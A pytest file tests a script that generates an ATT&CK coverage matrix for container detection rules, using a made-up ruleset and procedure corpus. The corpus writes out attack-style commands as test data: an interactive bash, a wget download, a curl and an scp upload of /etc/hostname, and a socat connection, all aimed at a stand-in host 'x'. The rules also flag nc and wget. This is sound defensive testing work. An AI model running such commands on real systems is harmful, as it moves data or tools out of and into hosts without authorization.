"""scripts/coverage_matrix.py on a small made-up ruleset and corpus (exact lines), and
docs/coverage.md is what it generates from the real rules, corpus and rule tests today."""
import importlib.util
import os

import pytest

from agent.rules import attack
from agent.rules.engine import RuleEngine

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


def _load_script():
    """The script as a module (scripts/ is not a package)."""
    spec = importlib.util.spec_from_file_location(
        "coverage_matrix", os.path.join(ROOT, "scripts", "coverage_matrix.py"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


cm = _load_script()
from procedures import Procedure  # noqa: E402  (tests/rules/, which the script put on sys.path)

# ATT&CK's order, not sorted: TA0011 comes before TA0010
CATALOG = attack.Catalog("made up", "1", {
    "TA0002": "Execution", "TA0011": "Command and Control", "TA0010": "Exfiltration"}, {
    "T1059": ("Command and Scripting Interpreter", frozenset({"TA0002"})),
    "T1059.004": ("Unix Shell", frozenset({"TA0002"})),
    "T1105": ("Ingress Tool Transfer", frozenset({"TA0011"})),
    "T1095": ("Non-Application Layer Protocol", frozenset({"TA0011"})),
    "T1048": ("Exfiltration Over Alternative Protocol", frozenset({"TA0010"})),
})

RULES_YAML = """
- rule: Shell in a container
  desc: d
  events: [exec]
  condition: proc.name = sh
  output: "%proc.exe"
  severity: medium
  tactic: TA0002
  technique: T1059.004
- rule: Reverse shell
  desc: d
  events: [exec]
  condition: proc.name = bash
  output: "%proc.exe"
  severity: critical
  tactic: TA0002
  technique: T1059.004
- rule: Download tool run
  desc: d
  events: [exec]
  condition: proc.name = wget
  output: "%proc.exe"
  severity: low
  tactic: TA0011
  technique: T1105
- rule: Netcat run
  desc: d
  events: [exec]
  condition: proc.name = nc
  output: "%proc.exe"
  severity: high
  tactic: TA0011
  technique: T1095
"""

PROCEDURES = [
    Procedure("sh -c", "T1059", "sh -c true", images=("busybox",)),   # the parent technique
    Procedure("bash -i", "T1059.004", "bash -i", images=("debian",)),
    Procedure("wget a tool", "T1105", "wget http://x/t"),
    Procedure("curl upload", "T1048", "curl -T /etc/hostname http://x/"),
    Procedure("scp upload", "T1048", "scp /etc/hostname x:", images=("debian",)),
]

# the download rule has no trigger test
CASES = {"Shell in a container": ("sh", "true", None), "Reverse shell": ("bash", "true", None),
         "Netcat run": ("nc", "true", None)}


@pytest.fixture
def rules(tmp_path):
    (tmp_path / "rules.yaml").write_text(RULES_YAML)
    return RuleEngine([str(tmp_path)], CATALOG).load().rules


@pytest.fixture
def lines(rules):
    """The matrix of the made-up inputs, line by line (split, not splitlines: the text
    ends with the last section's blank line, which splitting keeps)."""
    return cm.matrix(rules, PROCEDURES, CASES, CATALOG).split("\n")


def _section(lines, heading):
    """The lines of one section, from its heading to the next."""
    start = lines.index(heading)
    end = next((i for i in range(start + 1, len(lines)) if lines[i].startswith("## ")),
               len(lines))
    return lines[start:end]


def test_header_says_generated_and_how_to_regenerate(lines):
    assert lines[0] == "# ATT&CK coverage of the default rules"
    assert "do not edit it by hand" in lines[2]
    assert "    .venv/bin/python scripts/coverage_matrix.py --write" in lines


def test_summary_counts_rules_tactics_techniques_procedures_and_the_share(lines):
    assert _section(lines, "## Summary") == [
        "## Summary", "",
        "- Rules: 4",
        "- Tactics covered: 2 of the 3 ATT&CK Enterprise tactics",
        "- Techniques covered: 3",
        "- Procedures in the corpus: 5",
        "- Procedures per image: busybox 3, debian 4",
        "- **Techniques with at least 2 procedures: 1 of 3 (33 %)**",
        "- Techniques the corpus expects that no rule reports: 1",
        "- Rules whose technique no procedure tests: 1",
        ""]


def test_a_section_per_tactic_in_the_catalog_order(lines):
    assert [line for line in lines if line.startswith("## ")] == [
        "## Summary", "## TA0002 Execution", "## TA0011 Command and Control",
        "## TA0010 Exfiltration", "## Techniques the corpus expects that no rule reports",
        "## Rules whose technique no procedure tests"]
    assert _section(lines, "## TA0010 Exfiltration") == [
        "## TA0010 Exfiltration", "", "No rule reports this tactic.", ""]


def test_rows_give_rules_procedures_per_image_and_rule_tests(lines):
    head = ["| Technique | Rules | Procedures | on busybox | on debian | Rule tests |",
            "| --- | --- | --- | --- | --- | --- |"]
    assert _section(lines, "## TA0002 Execution") == ["## TA0002 Execution", "", *head,
        "| T1059.004 Unix Shell | Reverse shell (critical)<br>Shell in a container (medium) "
        "| 2 | 1 | 1 | 2 |", ""]
    assert _section(lines, "## TA0011 Command and Control") == [
        "## TA0011 Command and Control", "", *head,
        "| T1095 Non-Application Layer Protocol | Netcat run (high) | 0 | 0 | 0 | 1 |",
        "| T1105 Ingress Tool Transfer | Download tool run (low) | 1 | 1 | 1 | 0 |", ""]


def test_techniques_expected_but_not_reported_are_flagged(lines):
    assert _section(lines, "## Techniques the corpus expects that no rule reports") == [
        "## Techniques the corpus expects that no rule reports", "",
        "**WARNING: no rule reports 1 technique(s) that procedures expect; those procedures "
        "fail.**", "",
        "- T1048 Exfiltration Over Alternative Protocol: curl upload, scp upload", ""]


def test_rules_no_procedure_tests_are_listed(lines):
    assert _section(lines, "## Rules whose technique no procedure tests") == [
        "## Rules whose technique no procedure tests", "",
        "- T1095 Non-Application Layer Protocol: Netcat run", ""]


def test_no_gaps_say_none(rules):
    covered = [*PROCEDURES[:3], Procedure("socat", "T1095", "socat - TCP:x:1")]
    lines = cm.matrix(rules, covered, CASES, CATALOG).split("\n")
    for heading in ("## Techniques the corpus expects that no rule reports",
                    "## Rules whose technique no procedure tests"):
        assert _section(lines, heading) == [heading, "", "None.", ""]


def test_the_same_inputs_in_another_order_give_the_same_text(rules):
    assert cm.matrix(rules[::-1], PROCEDURES[::-1], CASES, CATALOG) == \
        cm.matrix(rules, PROCEDURES, CASES, CATALOG)


def test_check_fails_until_written_and_after_an_edit(rules, tmp_path, monkeypatch, capsys):
    out = tmp_path / "coverage.md"
    monkeypatch.setattr(cm, "OUTPUT", str(out))
    monkeypatch.setattr(cm, "load_inputs", lambda: (rules, PROCEDURES, CASES, CATALOG))
    assert cm.main(["--check"]) == 1
    assert cm.COMMAND in capsys.readouterr().err
    assert cm.main(["--write"]) == 0
    assert out.read_text() == cm.matrix(rules, PROCEDURES, CASES, CATALOG)
    assert cm.main(["--check"]) == 0
    out.write_text(out.read_text() + "hand-written\n")
    assert cm.main(["--check"]) == 1
    assert "(0 lines to add, 1 to remove)" in capsys.readouterr().err


def test_the_catalog_lists_tactics_in_attack_order():
    """The matrix orders tactics as the catalog lists them; that must be ATT&CK's order."""
    assert list(attack.load().tactics) == [
        "TA0043", "TA0042", "TA0001", "TA0002", "TA0003", "TA0004", "TA0005", "TA0006",
        "TA0007", "TA0008", "TA0009", "TA0011", "TA0010", "TA0040"]


def test_docs_coverage_md_is_generated_from_the_rules_and_tests_of_today():
    diff = cm.stale(cm.matrix(*cm.load_inputs()), cm.OUTPUT)
    assert not diff, cm.diff_summary(diff, cm.OUTPUT)
